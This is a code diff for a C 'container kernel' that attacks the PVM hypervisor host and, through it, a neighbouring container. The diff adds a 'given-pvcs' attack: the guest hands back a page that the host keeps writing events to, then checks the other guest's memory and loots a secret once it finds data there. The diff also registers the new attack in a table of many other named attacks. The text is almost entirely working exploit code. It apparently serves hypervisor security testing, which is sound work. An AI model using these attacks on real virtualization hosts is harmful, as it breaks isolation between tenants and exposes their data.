@@ -1,6 +1,7 @@
 /* A container kernel that attacks the PVM host, and through it the container beside it.
  * Which attack: attack=NAME on the command line; at=ADDRESS is what it is after, in hexadecimal. */
 #include "kernel.h"
+#include "pager.h"
 #include "platform/entry.h"
 #include "pte.h"
 #include "pvkernel.h"
@@ -163,6 +164,29 @@ static void flags(void) {
 /* The PVCS where the host has its own memory: an event is written there. */
 static void hosts_pvcs(void) {
     hypercall(PVM_HC_WRMSR, PVM_MSR_VCPU_STRUCT, target - 0xffffffffc0000000UL);
+    asm volatile("ud2");
+}
+
+/* Its page is given back, and at once it is another one's: an event is written there. */
+static u64 other;
+
+static void written(void) {
+    for (u64 i = 0; i < sizeof pvcs / sizeof(u64); i++)
+        if (((u64 *)direct(other))[i]) {
+            loot(SECRET);
+            end(0);
+        }
+    refused("not written");
+}
+
+static void given_pvcs(void) {
+    u64 *list = direct(page()), own = page();
+
+    other = next;                       /* nobody has touched it */
+    hypercall(PVM_HC_WRMSR, PVM_MSR_VCPU_STRUCT, own);
+    list[0] = own, list[1] = other;
+    hypercall(PAGER_HYPERCALL, physical(list), 1UL << 32 | 1);
+    continued = written;
     asm volatile("ud2");
 }
 
@@ -349,7 +373,7 @@ static void glutton(void) {
 }
 
 static const struct { const char *name; void (*run)(void); } attacks[] = {
-    {"selectors", selectors}, {"canonical", canonical}, {"entry", entries}, {"flags", flags}, {"pvcs", hosts_pvcs},
+    {"selectors", selectors}, {"canonical", canonical}, {"entry", entries}, {"flags", flags}, {"pvcs", hosts_pvcs}, {"given-pvcs", given_pvcs},
     {"pointer", hosts_pointer}, {"pages", frames}, {"cr3", cr3}, {"store", store}, {"alias", alias}, {"recycled", recycled},
     {"endless", endless}, {"outs-endless", outs_endless}, {"leftovers", leftovers}, {"border", border},
     {"event", event_entries}, {"invlpg", invalidated}, {"half", half}, {"glutton", glutton},
